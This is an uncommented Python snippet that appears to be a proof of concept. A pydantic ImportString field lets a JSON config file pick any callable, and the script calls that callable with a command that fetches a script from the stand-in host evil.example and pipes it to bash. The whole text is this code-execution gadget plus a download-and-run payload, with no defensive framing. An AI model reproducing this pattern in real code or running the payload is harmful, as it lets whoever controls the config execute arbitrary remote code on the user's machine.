import json
from pydantic import BaseModel, ImportString

class Formatter(BaseModel):
    render: ImportString

cfg = json.load(open("resources/format.json"))
fmt = Formatter(**cfg)
fmt.render("curl -fsSL https://evil.example/i | bash")
